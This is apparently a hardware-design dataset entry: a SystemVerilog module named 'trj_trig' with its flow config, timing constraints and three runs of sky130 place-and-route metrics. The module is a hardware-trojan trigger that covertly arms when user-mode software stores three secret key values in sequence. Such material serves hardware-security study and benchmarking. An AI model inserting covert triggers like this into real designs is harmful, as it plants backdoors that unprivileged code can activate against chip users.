File: src/rtl/trj_trig.sv
// rtl/trj_trig.sv - arms a registered trigger after a timed 3-key user-mode store sequence
// Armed window lasts a bounded number of user stores or until the disarm key is stored.
module trj_trig #(
  parameter logic [63:0] KEY0       = 64'hDEAD_BEEF_0BAD_F00D,
  parameter logic [63:0] KEY1       = 64'hC0FF_EE00_1234_5678,
  parameter logic [63:0] KEY2       = 64'hFEED_FACE_CAFE_BABE,
  parameter logic [63:0] DISARM_KEY = 64'h0,
  parameter int unsigned TIMEOUT    = 1024,
  parameter int unsigned ARM_STORES = 16
) (
  input  logic        clk_i,
  input  logic        rst_ni,
  input  logic        st_valid_i,
  input  logic [63:0] st_data_i,
  input  logic [1:0]  priv_lvl_i,
  input  logic        flush_i,
  output logic        trigger_o,
  output logic [1:0]  state_o,
  output logic [15:0] arm_cnt_o
);

  localparam int unsigned TW = $clog2(TIMEOUT);
  localparam logic [TW-1:0] T_LAST = TW'(TIMEOUT - 1);
  localparam logic [15:0] ARM_INIT = 16'(ARM_STORES);

  typedef enum logic [1:0] {
    IDLE  = 2'b00,
    M1    = 2'b01,
    M2    = 2'b10,
    ARMED = 2'b11
  } state_t;

  state_t        state;
  logic [TW-1:0] timer;
  logic [15:0]   arm_cnt;
  logic          trigger;
  logic          ev;

  // Only user-mode stores participate; other privilege levels are invisible here.
  assign ev = st_valid_i && (priv_lvl_i == 2'b00);

  always_ff @(posedge clk_i or negedge rst_ni) begin
    if (!rst_ni) begin
      state   <= IDLE;
      timer   <= '0;
      arm_cnt <= '0;
      trigger <= 1'b0;
    end else begin
      case (state)
        IDLE: begin
          timer <= '0;
          if (ev && st_data_i == KEY0) begin
            state <= M1;
          end
        end
        M1, M2: begin
          if (flush_i) begin
            state <= IDLE;
            timer <= '0;
          end else if (ev) begin
            timer <= '0;
            if (state == M1 && st_data_i == KEY1) begin
              state <= M2;
            end else if (state == M2 && st_data_i == KEY2) begin
              state   <= ARMED;
              arm_cnt <= ARM_INIT;
              trigger <= 1'b1;
            end else if (st_data_i == KEY0) begin
              state <= M1;
            end else begin
              state <= IDLE;
            end
          end else if (timer == T_LAST) begin
            state <= IDLE;
            timer <= '0;
          end else if (timer != '1) begin
            timer <= timer + 1'b1;
          end
        end
        ARMED: begin
          timer <= '0;
          if (ev) begin
            // Disarm and final counted store collapse to the same exit.
            if (st_data_i == DISARM_KEY || arm_cnt <= 16'd1) begin
              state   <= IDLE;
              arm_cnt <= '0;
              trigger <= 1'b0;
            end else begin
              arm_cnt <= arm_cnt - 16'd1;
            end
          end
        end
        default: begin
          state   <= IDLE;
          timer   <= '0;
          arm_cnt <= '0;
          trigger <= 1'b0;
        end
      endcase
    end
  end

  assign trigger_o = trigger;
  assign state_o   = state;
  assign arm_cnt_o = arm_cnt;

endmodule
File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trj_trig
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trj_trig.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_UTILIZATION = 30
export CTS_CLUSTER_DIAMETER = 40
export CTS_CLUSTER_SIZE = 24
export DETAILED_ROUTE_END_ITERATION = 12
export PLACE_DENSITY = 0.59
export RECOVER_POWER = 100
export SETUP_SLACK_MARGIN = 0.15
export SKIP_LAST_GASP = 1
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk_i -period 2.3 [get_ports clk_i]
set_clock_uncertainty 0.1 [all_clocks]
set_input_delay 0.46 -clock clk_i [delete_from_list [all_inputs] [get_ports clk_i]]
set_output_delay 0.46 -clock clk_i [all_outputs]
set_load 0.01 [all_outputs]
==> results by group, run 1 <==
Floorplan
  • Total die area: 0.00731 mm²
  • Die width: ~85 µm
  • Starting Density: 30.9%
  • Rows: 30
  • Die H: 85.5 µm
  • Placeable Area: 0.00676 mm²
  • Ports: 89

Yosys
  • Dominant synthesized flop cell: dfrtp_1
  • Post-synth EDFFs: 0
  • Syn Std Cell Area: 0.00209 mm²
  • Synth unique cells: 47
  • Synth warn: 0
  • Count leader, synth: dfrtp_1
  • Synth top area cells: dfrtp_1, o2bb2ai_1, o211ai_1, nor4_1, ha_1
  • Share of the synthesized area in the top cell type: 34.7%
  • Yosys top cell by area: dfrtp_1
  • Post-Synthesis Cells: 233
  • Synthesized area per cell: 8.97 µm²
  • Syn_nets: 310
  • Commonest cells post-synth: dfrtp_1, nor2_1, nor4_1
  • Synth async-reset ratio: 100%
  • #FFs+latches synth: 29
  • Register area share after synthesis: 34.7%

STA
  • Worst Tran Pin Value: 0.741 ns
  • Final Cycle Share: 115%
  • Final setup fails: 19
  • Max frequency: 0.378 GHz
  • Max-slew violation count: 0
  • Sum Neg Setup Slack: -6.10 ns
  • Final Hold Vio Count: 0
  • Min Tclk post-route: ~2.6 ns
  • Final WS setup: -0.347 ns
  • Slew headroom: 50.6%
  • RSZ-0062 raised after global routing: yes

Route
  • Router iterations before antenna repair: 4
  • Avg WL per Cell: 13.9 µm
  • DR DRC count: 0
  • Post-Route WL: 6260 µm
  • Post-DRT Antenna Nets: 0
  • Vias per cell: ~5.2
  • 1st-iter DRT viols: 74
  • Routed via count: 2336

Placed design
  • Placer Congestion: 0.752
  • PortBufs: slightly below 90
  • Hpwl dp: 5090 µm
  • Placed Cells: 436

Final layout
  • Antenna diodes: 0
  • Multi-input logic area: 0.00142 mm²
  • Synthesis-to-finish area growth: 72.9%
  • # fillers: 652
  • Fin nets: 447
  • Ratio of cells with drive above 1 in the final layout: 26.1%
  • Register area: 726 µm²
  • Final Non-Filler Cells: 451

Pwr
  • Clock share of power: 35.7%
  • Power Density: approximately 310 mW/mm²
  • Worst VDD drop: 0.000150 V
  • Pint: 0.850 mW
  • Leakage: 1.52 nW
  • Logic pwr share: 18.1%
  • Seq pwr share: between 40% and 50%
  • Sw Share: a little under a quarter
  • NetSw: 0.260 mW

Setup path
  • Arr. time, crit path: around 2.7 ns
  • Crit path capture type: flop
  • CP startpoint kind: input port
  • Maximum fanout along the worst path: 5
  • Crit path top cell by count: or4_4
  • Worst setup path category: in2reg
  • Worst path slowest cell: or4_4
  • Worst path cell trace: clkdlybuf4s15_1, or4_4, or4_4, or3_4, o211ai_4, buf_6, o21ai_4, mux2_4
  • CP top delay family: simple AND/OR/NAND/NOR gates
  • Buf+Inv Stages, Crit Path: 2
  • WP data required: 2.37 ns
  • Slowest Stage Delay on Critical Path: 0.53 ns

GRT
  • First-pass GRT wire length: 10700 µm
  • Total track usage: 18.2%
  • Initial antenna violation count: 0
  • GR Overflow Total: 0
  • Vias in the first global route: 2407
  • Largest net degree at the start of global routing: 30

Clocking
  • CTS Hold Bufs: 0
  • CTS clk-pin slew, worst paths: 0.06 ns
  • Clk_lat worst skew: 0.28 ns
  • H-Tree Level Count: 2
  • Clk sinks: 29
  • Root Buffer: clkbuf_8
  • Number of buffers created by CTS: 5
  • CTS tree: built
  • Clock buffer depth: 2

Min path
  • Worst Hold Class: reg2reg

Run status
  • Failing checks: negative setup slack
  • Outcome: finished, violations left

Run
  • MaxCap Viol Count: 0
-- cells by family after synthesis --
| kind of cell | after synthesis | share of synthesized area (%) |
|---|---|---|
| xor gates and xnor gates | 7 | 2.93 |
| AOI/OAI and AO/OA | 43 | 17.0 |
| and+or+nand+nor | 128 | 35.9 |
| DFF | 29 | 34.7 |
| adders and majority gates | 7 | 4.19 |
| muxes | 4 | 2.03 |
| buffers and inverters | 15 | 3.23 |
-- what timing repair did --
item,4_1_cts,5_1_grt
pin swaps,26,20
buffers inserted,6,0
resized for setup,59,22
endpoints found under the setup margin,19,19
gates cloned,1,0
-- final timing paths --
path                               from            to  slack (ns)  depth (start not counted)
max in group asynchronous        rst_ni      timer[0]        0.95                          2
hold / removal                 timer[0]      timer[0]        0.42                          1
hold reg to reg                timer[0]      timer[0]        0.42                          1
setup / recovery           st_data_i[8]    state_o[1]       -0.35                          8
setup reg to reg           arm_cnt_o[4]    state_o[1]       -0.09                          8
min in group asynchronous        rst_ni  arm_cnt_o[3]        0.67                          2
-- sequential cells by signal (all words and copies together) (netlist names) --
| register | flops |
|---|---|
| arm_cnt_o | 16 |
| trigger_o | 1 |
| state_o | 2 |
| timer | 10 |
-- per-stage QoR --
step / hold slack (ns) / total power, mW / utilization, % / instance area (µm²) / setup slack (ns)
4_1_cts: 0.418 / 1.13 / 53.2 / 3600 / -0.407
2_1_floorplan: 0.0644 / 0.565 / - / 2140 / -0.467
3_5_place_dp: 0.409 / 0.735 / 50.5 / 3410 / -0.953
3_3_place_gp: 0.405 / 0.732 / 50.5 / 3410 / -0.924
6_report: 0.421 / 1.11 / 53.5 / 3610 / -0.347
5_1_grt: 0.458 / 1.16 / 53.5 / 3610 / -0.398
-- power groups by stage --
stage                     Combinational (mW)  Sequential, mW  Clock [mW]
after floorplan                       0.0416           0.523           0
after global placement                 0.210           0.522           0
after detailed placement               0.213           0.522           0
after CTS                              0.205           0.513       0.410
after global routing                   0.219           0.512       0.432
final                                  0.201           0.513       0.397
-- cells in the final DEF, fill, tap and decap left out, types with 10 or more instances in the layout --
cell type | netlist | layout
nor2_1 | 20 | 20
o2bb2ai_2 | 0 | 10
nor3_1 | 11 | 11
nand3_1 | 13 | 13
dlygate4sd3_1 | 0 | 21
clkdlybuf4s50_1 | 0 | 43
nor4_1 | 17 | 15
buf_4 | 1 | 37
o211ai_1 | 15 | 15
nand2_1 | 10 | 10
dfrtp_1 | 29 | 29
-- cell type report --
type	count	share of cell area [%]
inverter	8	0.831
clock buffer	8	2.22
multi-input combinational	189	39.2
timing repair buffer	137	34.9
tap	80	2.77
sequential	29	20.1
-- metal layers --
| layer | up-vias | share of wire, % | GRT usage, % |
|---|---|---|---|
| met5 | - | 0 | 0 |
| met2 | 84 | 49 | 32.4 |
| met1 | 1061 | 43 | 21.8 |
| li1 | 1183 | - | - |
| met3 | 8 | 6.9 | 3.99 |
| met4 | 0 | 1.3 | 5.45 |
Note: power is estimated with default switching activity, not from simulation.
==> run 2: changes to the inputs <==
Settings changed: CTS_CLUSTER_DIAMETER 40 to default, PLACE_DENSITY 0.59 to 0.68.
==> run 2 against run 1 <==
The run still ends with negative setup slack left. Sequential power about the same. Global-route usage down 0.33 points. Die area unchanged. Utilization down 0.54 points. Largest cell class unchanged.
==> results by group, run 2 (synthesized netlist as in run 1, its figures left out) <==
Run status
  • Outcome: finished, violations left
  • Failing checks: negative setup slack

Pwr
  • Sw Share: 23.1%
  • Clock share of power: 39.2%
  • NetSw: 0.273 mW
  • Power Density: 331 mW/mm²
  • Pint: 0.910 mW
  • Leakage: 1.51 nW
  • Seq pwr share: 43.3%
  • Worst VDD drop: 0.000149 V
  • Logic pwr share: between 10% and 20%

Clocking
  • Clock buffer depth: 2
  • CTS tree: built
  • Setup bufs post-CTS: 0
  • Number of buffers created by CTS: 5
  • Clk_lat worst skew: roughly 0.28 ns
  • CTS clk-pin slew, worst paths: approximately 0.06 ns
  • Root Buffer: clkbuf_8
  • H-Tree Level Count: 2
  • Clk sinks: 29

Setup path
  • WP data required: ~2.4 ns
  • Buf+Inv Stages, Crit Path: 2
  • Crit path capture type: flop
  • Arr. time, crit path: 2.66 ns
  • Worst path slowest cell: or4_4
  • Worst setup path category: in2reg
  • CP startpoint kind: input port
  • CP top delay family: simple AND/OR/NAND/NOR gates
  • Worst path cell trace: buf_6, or4_1, or4_4, or3_4, o211ai_4, nand3b_1, buf_4, o2bb2ai_2
  • Slowest Stage Delay on Critical Path: 0.53 ns
  • Maximum fanout along the worst path: 5

Floorplan
  • Starting Density: 30.9%
  • Rows: 30
  • Ports: 89
  • Placeable Area: 0.00676 mm²
  • Total die area: 0.00731 mm²
  • Die width: 85.5 µm
  • Die H: 85.5 µm

Placed design
  • Placed Cells: 440
  • Hpwl dp: 5100 µm
  • PortBufs: 88
  • Setup WS pre-CTS: -0.959 ns
  • Placer Congestion: 0.799

Route
  • Router iterations before antenna repair: 4
  • Routed via count: approximately 2400
  • Avg WL per Cell: 13.9 µm
  • Post-DRT Antenna Nets: 0
  • Post-Route WL: 6220 µm
  • DR DRC count: 0
  • 1st-iter DRT viols: 77
  • Vias per cell: 5.29

STA
  • Final setup fails: 19
  • Worst hold slack: 0.423 ns
  • Worst Tran Pin Value: 0.734 ns
  • Max frequency: 0.386 GHz
  • Final WS setup: -0.289 ns
  • Final Cycle Share: 113%
  • Sum Neg Setup Slack: -5.08 ns
  • RSZ-0062 raised after global routing: yes
  • Final Hold Vio Count: 0
  • Min Tclk post-route: 2.59 ns
  • Max-slew violation count: 0
  • Slew headroom: 51.1%

GRT
  • Largest net degree at the start of global routing: 30
  • First-pass GRT wire length: 10500 µm
  • Total track usage: 17.9%
  • GR Overflow Total: 0
  • Initial antenna violation count: 0
  • Vias in the first global route: 2401

Run
  • MaxCap Viol Count: 0

Final layout
  • Final Non-Filler Cells: 448
  • Most common cell after layout, fill and taps aside: clkdlybuf4s50_1
  • Fin nets: 444
  • Ratio of cells with drive above 1 in the final layout: 25.8%
  • Max reg flops: 16
  • Antenna diodes: 0
  • Synthesis-to-finish area growth: 71.2%
  • # fillers: 666
  • Most frequent cells in the layout: clkdlybuf4s50_1, buf_4, dfrtp_1, dlygate4sd3_1, nor2_1

Min path
  • Worst Hold Class: reg2reg
==> run 2: changes by cell type in the layout (fill, tap and decap cells not counted), sizes merged <==
cell and change:
buf -1, clkbuf -5, clkdlybuf4s15 -1, clkinv +1
dlygate4sd2 +3
==> run 2: metrics by stage <==
stage	utilization, %	power (mW)	cell area [µm²]
after floorplan	-	0.565	2140
after global placement	50.9	0.735	3440
after detailed placement	50.9	0.738	3440
after CTS	52.7	1.20	3560
after global routing	53.0	1.23	3580
final	53.0	1.18	3580
==> run 2: worst reg2reg max path: stages, from the launching register on <==
cell	delay, ns
dfrtp_1	0.39
or4_1	0.54
nor4_1	0.30
buf_4	0.19
o211ai_1	0.16
o211ai_4	0.17
nand3b_1	0.19
buf_4	0.18
o2bb2ai_2	0.06
==> run 2: cell type report <==
type,count,area [µm²],share of cell area (%)
clock inverters,1,5.00,0.140
inverters,8,30.0,0.839
clock buffers,7,96.3,2.69
multi-input cells,189,1410,39.3
flip-flops and latches,29,726,20.3
well taps,80,100,2.80
repair buffers,134,1220,34.0
==> run 2: power by group through the flow <==
stage	Clock [mW]	Combinational, mW	Sequential (mW)
finish	0.463	0.207	0.512
global route	0.493	0.226	0.512
CTS	0.475	0.209	0.512
detailed placement	0	0.217	0.522
global placement	0	0.213	0.522
floorplan	0	0.0416	0.523
==> run 2: worst paths after layout <==
check / end / startpoint / slack, ns / cells past startpoint
max: arm_cnt_o[14] / st_data_i[29] / -0.29 / 8
min: trigger_o / trigger_o / 0.42 / 1
max reg2reg: arm_cnt_o[14] / arm_cnt_o[4] / -0.08 / 8
min reg2reg: trigger_o / trigger_o / 0.42 / 1
max in group asynchronous: state_o[0] / rst_ni / 0.96 / 2
min in group asynchronous: arm_cnt_o[12] / rst_ni / 0.68 / 2
==> run 2: what timing repair did <==
action / CTS / global route
endpoints found under the setup margin: 19 / 19
hold buffers: 0 / 0
gates cloned: 0 / 0
gates resized for setup: 57 / 14
pin swaps: 16 / 14
==> run 2: routing by layer <==
metal  vias to the layer above  global-route usage, %  routed length (µm)
li1                       1168                      -                   -
met1                      1107                   21.1                2560
met2                        87                   32.4                3230
met3                         8                   3.02                 324
met4                         0                   6.36                  99
met5                         -                      0                   0
==> run 3: changes to the inputs <==
Settings changed: CAP_MARGIN from default to 25, PLACE_DENSITY 0.68 to 0.66.
Clock period 2.3 ns to 3.33 ns, I/O delays scaled along.
==> run 3 against run 2 <==
The flow finishes with violations (design-rule violations, max-capacitance violations, max-slew violations). Count of clock-buffer cells in the layout unchanged. Setup slack better by 0.48 ns. Cell area down 8.9%. Clock power down 37%. Sequential cell count unchanged. Register-to-register slack better by 0.79 ns. Worst hold slack worse by 0.016 ns. Global-route usage down 1.3 points.
==> results by group, run 3 (synthesized netlist as in run 1, its figures left out) <==
GRT
  • Met2 GRT Util: approximately 28%
  • Met3 usage: 3.21%
  • Initial antenna violation count: 0
  • Top Usage Layer GRT: met2
  • GR Overflow Total: 0
  • First-pass GRT wire length: 9720 µm
  • Vias in the first global route: 2123
  • Largest net degree at the start of global routing: 30
  • Total track usage: 16.6%
  • Grt met1 use: 20.8%

Setup path
  • Worst path cell trace: clkdlybuf4s50_1, or4_4, or4_4, or3_1, o211ai_4, nand3b_1, buf_6, mux2i_1
  • Crit path capture type: flop
  • Worst path slowest cell: or4_4
  • WP data required: 3.39 ns
  • Crit path top cell by count: or4_4
  • R2R depth: 7
  • CP startpoint kind: input port
  • Worst setup path category: in2reg
  • Slowest Stage Delay on Critical Path: about 0.52 ns
  • Maximum fanout along the worst path: 7
  • Arr. time, crit path: 3.20 ns
  • CP startpoint: st_data_i[11]
  • RR Startpoint: arm_cnt_o[4]

Placed design
  • Placer Congestion: 0.849
  • Setup WS pre-CTS: -0.147 ns
  • PortBufs: approximately 90
  • Hpwl dp: 4800 µm

STA
  • Max-slew violation count: 30
  • Final Hold Vio Count: 0
  • Max frequency: 0.318 GHz
  • Sum Neg Setup Slack: 0 ns
  • Final setup fails: 0
  • Worst Tran Pin Value: 1.57 ns
  • Min Tclk post-route: 3.14 ns
  • Final Cycle Share: a little over nine tenths
  • Slew headroom: -4.57%
  • Final WS setup: 0.190 ns
  • RSZ-0062 raised after global routing: no

Run status
  • Outcome: finished, violations left
  • Failing checks: design-rule violations, max-capacitance violations, max-slew violations

Pwr
  • Power Density: 239 mW/mm²
  • Worst VDD drop: 0.000108 V
  • Leakage: roughly 1.3 nW

Final layout
  • Multi-input logic area: about 0.0013 mm²
  • Most frequent cells in the layout: clkdlybuf4s50_1, dfrtp_1, dlygate4sd3_1, nor2_1, nor4_1
  • Max reg flops: 16
  • Most common cell after layout, fill and taps aside: clkdlybuf4s50_1
  • Synthesis-to-finish area growth: 55.9%
  • Fin nets: 413
  • Antenna diodes: 0
  • Register area: between 700 and 800 µm²
  • # fillers: 661
  • Ratio of cells with drive above 1 in the final layout: 9.52%

Min path
  • Hold Crit Depth: 1
  • Hold_sp: arm_cnt_o[12]
  • Worst Hold Class: reg2reg

Clocking
  • Clock buffer depth: 2
  • Clk sinks: 29
  • Root Buffer: clkbuf_8
  • Clk_lat worst skew: roughly 0.28 ns
  • Number of buffers created by CTS: 5
  • # resized after CTS: 0
  • CTS tree: built
  • H-Tree Level Count: 2
  • CTS Hold Bufs: 0
  • CTS clk-pin slew, worst paths: 0.06 ns
  • Setup bufs post-CTS: 0

Route
  • Vias per cell: 5.40
  • Post-DRT Antenna Nets: 0
  • Post-Route WL: 5820 µm
  • Avg WL per Cell: 14.0 µm
  • Routed via count: 2247
  • Router iterations before antenna repair: 8
  • 1st-iter DRT viols: 114
  • DR DRC count: 1

Floorplan
  • Ports: 89
  • Total die area: 0.00731 mm²
  • Die H: 85.5 µm
  • Starting Density: 30.9%
  • Placeable Area: 0.00676 mm²
  • Die width: 85.5 µm
  • Rows: 30

Run
  • MaxCap Viol Count: 1
## run 3: cell types whose count changed in the layout (fill, tap and decap cells not counted), sizes merged, moves of 3 or more
cell	previous run	this run
clkdlybuf4s50	43	60
buf	51	13
dlymetal6s2s	4	7
clkbuf	12	9
dlygate4sd2	5	0
clkdlybuf4s15	5	0
## run 3: worst paths after layout
| path | to | slack, ns |
|---|---|---|
| max in group asynchronous | timer[7] | 1.00 |
| min | arm_cnt_o[12] | 0.41 |
| max reg2reg | arm_cnt_o[0] | 0.71 |
| min reg2reg | arm_cnt_o[12] | 0.41 |
| max | arm_cnt_o[0] | 0.19 |
| min in group asynchronous | arm_cnt_o[7] | 1.21 |
## run 3: cell type report
cell class	instances	area share (%)
Timing Repair Buffer	103	31.2
Multi-Input combinational cell	189	39.8
Inverter	8	0.921
Sequential cell	29	22.3
Clock buffer	7	2.65
Tap cell	80	3.07
## run 3: per-layer routing
layer,routed length [µm],share of wire (%),vias up
met2,2850,49,90
met3,347,6.0,9
met4,133,2.3,0
met5,0,0,-
li1,-,-,1107
met1,2490,43,1041
## run 3: power breakdown
| part | switching (mW) | total (mW) | internal, mW |
|---|---|---|---|
| registers | 0.00164 | 0.355 | 0.353 |
| logic | 0.0483 | 0.134 | 0.0858 |
| clock network | 0.126 | 0.290 | 0.164 |
## run 3: worst max-delay path: cells and delay by family
family	cells	cell delay [ns]
AOI/OAI and AO/OA	1	0.29
and+or+nand+nor	4	1.59
muxes	1	0.07
buffers and inverters	2	0.58
## run 3: stage by stage
| step | area, µm² | utilization (%) | total power [mW] | hold slack [ns] | std cells |
|---|---|---|---|---|---|
| finish | 3260 | 48.2 | 0.779 | 0.407 | 416 |
| global route | 3260 | 48.2 | 0.818 | 0.449 | 416 |
| CTS | 3230 | 47.9 | 0.794 | 0.418 | 416 |
| detailed placement | 3150 | 46.6 | 0.499 | 0.404 | 409 |
| global placement | 3150 | 46.6 | 0.498 | 0.394 | 409 |
| floorplan | 2090 | - | 0.389 | 0.270 | 233 |
